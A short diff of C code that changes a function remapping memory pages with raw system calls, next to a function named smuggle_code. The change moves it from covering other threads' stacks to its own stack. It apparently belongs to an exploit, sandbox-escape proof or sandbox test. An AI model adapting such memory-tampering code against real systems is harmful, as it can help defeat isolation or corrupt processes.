@@ -99,14 +99,15 @@ static void smuggle_code(void)
         }
 }
 
-/* Maps over the stacks of the other threads, which lie above this one's. */
+/* Maps over its own stack, where nothing is yet. */
 static void cover_stacks(const char *own)
 {
+    enum { PIECES = 28, PIECE = 256 << 10 /* of 8 MiB */ };
     char here;
     uintptr_t page = (uintptr_t)&here & -(uintptr_t)PAGE;
     long file = kernel_call(SYS_open, (long)own, O_RDONLY, 0, 0, 0);
-    for (uintptr_t i = 1; i < 16; i++) {
-        uintptr_t there = page + (i << 20);
+    for (uintptr_t i = 1; i < PIECES; i++) {
+        uintptr_t there = page - i * PIECE;
         found += kernel_call(SYS_munmap, (long)there, PAGE, 0, 0, 0) == 0;
         found += kernel_call(SYS_madvise, (long)there, PAGE, MADV_DONTNEED, 0, 0) == 0;
         found += map(there, PAGE, PROT_READ | PROT_WRITE, MAP_FIXED | MAP_ANONYMOUS, -1, 0) > 0;
